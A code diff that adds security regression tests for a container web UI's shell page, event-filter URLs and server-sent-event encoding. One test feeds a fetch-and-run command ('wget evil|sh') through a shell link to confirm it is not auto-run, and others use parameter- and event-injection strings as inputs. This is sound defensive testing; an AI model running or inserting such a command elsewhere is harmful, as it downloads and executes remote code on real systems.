@@ -338,3 +338,32 @@ async def test_a_followed_log_stops_when_the_session_ends(ui: Browser, monkeypat
             if line.startswith("data: your session ended"):
                 break
     assert "data: after the logout" not in got and got[-1].startswith("data: your session ended")
+
+
+# ---------------------------------------------------------------------- found in review
+
+
+async def test_a_shell_link_naming_a_command_does_not_run_it_by_itself(ui: Browser) -> None:
+    """A link (sent to someone, or through the login's ``next=``) can name any command: the page opens
+    only the default shell by itself and fills the named command into the form, for the person to run."""
+    inst = await running_container(ui.h)
+    await ui.login()
+    plain = await (await ui.request("GET", f"/containers/{inst}/shell")).text()
+    assert 'data-command="sh" data-autostart="1"' in plain
+    named = await ui.request("GET", f"/containers/{inst}/shell?cmd=sh%20-c%20'wget%20evil|sh'")
+    text = await named.text()
+    assert named.status == 200 and 'data-autostart="0"' in text and "press Open to run this command" in text
+    assert "value=\"sh -c &#39;wget evil|sh&#39;\"" in text, "shown, escaped, in the form"
+    assert not execs(ui), "opening the pages ran nothing"
+
+
+def test_the_events_streams_address_keeps_each_filter_whole() -> None:
+    from agent.ui.events import Filter
+
+    query = Filter(kind="service.scaled", audit=True, user="a&kind=x", environment=None).query()
+    assert query == "kind=service.scaled&audit=1&user=a%26kind%3Dx"
+
+
+def test_a_carriage_return_cannot_end_a_server_sent_event_early() -> None:
+    sent = ui_logs.sse("row", "one\rid: 9\r\nevent: session\ntwo")
+    assert sent == b"event: row\ndata: one\ndata: id: 9\ndata: event: session\ndata: two\n\n"
